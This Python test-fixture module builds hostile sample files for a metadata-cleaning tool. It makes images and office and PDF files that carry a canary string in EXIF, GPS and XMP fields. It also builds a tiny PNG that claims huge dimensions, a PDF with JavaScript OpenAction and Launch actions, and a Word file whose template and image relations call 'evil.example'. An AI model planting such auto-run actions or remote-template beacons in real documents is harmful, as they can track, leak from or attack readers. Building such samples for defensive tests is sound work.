"""Files made for the tests, good and hostile. Every one is built here: nothing is copied from anywhere."""

import struct
import zipfile
import zlib
from io import BytesIO

import pikepdf
from PIL import Image
from PIL.PngImagePlugin import PngInfo

SECRET = "Petra-Holm-canary"  # what must not be found in anything that was cleaned
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
MAIN = "application/vnd.openxmlformats-officedocument."
WORD = MAIN + "wordprocessingml.document.main+xml"
SHEET = MAIN + "spreadsheetml.sheet.main+xml"


def picture(size=(40, 20)):
    image = Image.new("RGB", size, (200, 30, 30))
    image.paste((10, 10, 200), (0, 0, size[0] // 2, size[1]))
    return image


def jpeg(*, telling=True, size=(40, 20), orientation=6):
    out, more = BytesIO(), {}
    if telling:
        exif = Image.Exif()
        exif[0x0112] = orientation
        exif[0x013B] = SECRET  # artist
        exif[0x9286] = SECRET
        place = exif.get_ifd(0x8825)
        place[1], place[2] = "N", (50.0, 43.0, 12.0)
        place[29] = SECRET
        more = {"exif": exif, "comment": SECRET.encode(), "icc_profile": SECRET.encode() * 4}
    picture(size).save(out, "JPEG", **more)
    return out.getvalue()


def png(*, telling=True, size=(40, 20), mode="RGB"):
    out, more = BytesIO(), {}
    if telling:
        words = PngInfo()
        words.add_text("Author", SECRET)
        words.add_itxt("XML:com.adobe.xmp", f"<x>{SECRET}</x>")
        exif = Image.Exif()
        exif[0x013B] = SECRET
        more = {"pnginfo": words, "exif": exif, "icc_profile": SECRET.encode()}
    picture(size).convert(mode).save(out, "PNG", **more)
    return out.getvalue()


def png_of_many_dots(width, height):
    """A PNG that says it is huge, in a few bytes."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    row = b"\x00" * (1 + (width + 7) // 8)
    dots = zlib.compressobj(9)
    data = b"".join(dots.compress(row) for _ in range(height)) + dots.flush()
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def pdf(change=None, **save):
    """A PDF of one page, changed by `change(pdf)` before it is saved."""
    made = pikepdf.new()
    made.add_blank_page(page_size=(200, 200))
    font = pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica)
    page = made.pages[0]
    page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary({"/AA": made.make_indirect(font)}))
    page.Contents = made.make_stream(b"BT /AA 12 Tf 20 100 Td (Meeting notes) Tj ET")
    if change is not None:
        change(made)
    out = BytesIO()
    made.save(out, **save)
    return out.getvalue()


def telling_pdf():
    return pdf(_tell)


def _tell(made):
    page = made.pages[0]
    made.docinfo["/Author"] = SECRET
    with made.open_metadata() as notes:
        notes["dc:creator"] = [SECRET]
    made.attachments["notes.txt"] = SECRET.encode()
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=f"app.alert('{SECRET}')")
    made.Root.OpenAction = script
    made.Root.Names.JavaScript = pikepdf.Dictionary(Names=pikepdf.Array(["a", script]))
    made.Root.AA = pikepdf.Dictionary(WC=script)
    page.AA = pikepdf.Dictionary(O=script)
    page.PieceInfo = pikepdf.Dictionary(App=pikepdf.Dictionary(Private=SECRET))
    note = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Text, Rect=[0, 0, 9, 9], Contents="See page 2", T=SECRET
    )
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=SECRET)
    click = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=launch)
    web = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://example.org/")
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=web)
    clip = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[0, 0, 9, 9], Contents=SECRET)
    page.Annots = pikepdf.Array([made.make_indirect(one) for one in (note, click, link, clip)])
    photo = made.make_stream(jpeg())
    photo.Type, photo.Subtype, photo.Filter = pikepdf.Name.XObject, pikepdf.Name.Image, pikepdf.Name.DCTDecode
    photo.Width, photo.Height, photo.BitsPerComponent, photo.ColorSpace = 40, 20, 8, pikepdf.Name.DeviceRGB
    page.Resources.XObject = pikepdf.Dictionary(Photo=photo)


def office(parts, *, main="word/document.xml", kind=WORD, root=(), **defaults):
    """An office file of these parts. `root` are further relations of the package: (type, target)."""
    relations = [("officeDocument", main), *root]
    lines = "".join(
        f'<Relationship Id="rId{n}" Type="{_REL}/{name}" Target="{target}"/>' for n, (name, target) in enumerate(relations, 1)
    )
    known = {
        "rels": f"{_PACKAGE.replace('http://schemas.openxmlformats.org/package', 'application/vnd.openxmlformats-package')}",
        **defaults,
    }
    known.setdefault("xml", "application/xml")
    types = "".join(f'<Default Extension="{ending}" ContentType="{said}"/>' for ending, said in known.items())
    types += f'<Override PartName="/{main}" ContentType="{kind}"/>'
    whole = {
        "[Content_Types].xml": f'<Types xmlns="{_PACKAGE}/content-types">{types}</Types>',
        "_rels/.rels": f'<Relationships xmlns="{_PACKAGE}/relationships">{lines}</Relationships>',
        **parts,
    }
    return archive(whole)


def archive(parts, **how):
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in parts.items():
            packed.writestr(name, content, **how)
    return out.getvalue()


def relations(*lines):
    """A `.rels` part. Each line is (id, type, target) or (id, type, target, "External")."""
    words = ""
    for key, kind, target, *mode in lines:
        outside = ' TargetMode="External"' if mode else ""
        words += f'<Relationship Id="{key}" Type="{_REL}/{kind}" Target="{target}"{outside}/>'
    return f'<Relationships xmlns="{_PACKAGE}/relationships">{words}</Relationships>'


def word(body="<w:p><w:r><w:t>Meeting notes</w:t></w:r></w:p>", **parts):
    text = f'<w:document xmlns:w="{_W}" xmlns:r="{_REL}"><w:body>{body}</w:body></w:document>'
    return office({"word/document.xml": text, **parts})


_SIGNED = f'w:author="{SECRET}" w:date="2026-01-01T00:00:00Z"'
_TELLING_BODY = (
    f'<w:p w:rsidR="00AA"><w:ins w:id="1" {_SIGNED}><w:r><w:t>Added words</w:t></w:r></w:ins>'
    '<w:hyperlink r:id="rId9"><w:r><w:t>a link</w:t></w:r></w:hyperlink>'
    '<a:blip xmlns:a="x" r:embed="rId2" r:link="rId8"/></w:p>'
)
_SPACES = f'xmlns:w="{_W}" xmlns:r="{_REL}"'
_TELLING_PARTS = {
    "word/document.xml": f'<w:document {_SPACES} xmlns:mc="mc" mc:Ignorable="w14"><w:body>{_TELLING_BODY}</w:body></w:document>',
    "word/comments.xml": f'<w:comments {_SPACES}><w:comment w:id="0" w:initials="PH" {_SIGNED}><w:p/></w:comment></w:comments>',
    "word/people.xml": (
        f'<w15:people xmlns:w15="urn:w15"><w15:person w15:author="{SECRET}">'
        f'<w15:presenceInfo w15:providerId="AD" w15:userId="{SECRET}"/></w15:person></w15:people>'
    ),
    "word/settings.xml": (
        f'<w:settings {_SPACES}><w:attachedTemplate r:id="rId1"/>'
        f'<w:rsids><w:rsid w:val="{SECRET}"/></w:rsids><w:zoom/></w:settings>'
    ),
    "word/_rels/settings.xml.rels": relations(("rId1", "attachedTemplate", f"https://evil.example/{SECRET}.dotm", "External")),
    "word/_rels/document.xml.rels": relations(
        ("rId1", "comments", "comments.xml"),
        ("rId2", "image", "media/image1.jpeg"),
        ("rId3", "customXml", "../customXml/item1.xml"),
        ("rId4", "settings", "settings.xml"),
        ("rId5", "people", "people.xml"),
        ("rId8", "image", f"https://evil.example/{SECRET}.png", "External"),
        ("rId9", "hyperlink", f"file:///C:/Users/{SECRET}/x.docx", "External"),
    ),
    "customXml/item1.xml": f"<x>{SECRET}</x>",
    "docProps/core.xml": f"<x>{SECRET}</x>",
    "docProps/app.xml": f"<x>{SECRET}</x>",
}


def telling_word():
    parts = {**_TELLING_PARTS, "word/media/image1.jpeg": jpeg(), "docProps/thumbnail.jpeg": jpeg()}
    return office(
        parts, root=(("core-properties", "docProps/core.xml"), ("thumbnail", "docProps/thumbnail.jpeg")), jpeg="image/jpeg"
    )


def everything_in(data):
    """Every byte of a file with its streams and parts unpacked, to look for the canary in."""
    found = [data]
    if data.startswith(b"PK"):
        with zipfile.ZipFile(BytesIO(data)) as packed:
            found += [everything_in(packed.read(name)) + name.encode() for name in packed.namelist()]
    if data.startswith(b"%PDF"):
        out = BytesIO()
        with pikepdf.open(BytesIO(data)) as opened:
            opened.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable, qdf=True)
        found.append(out.getvalue())
    return b"\n".join(found)
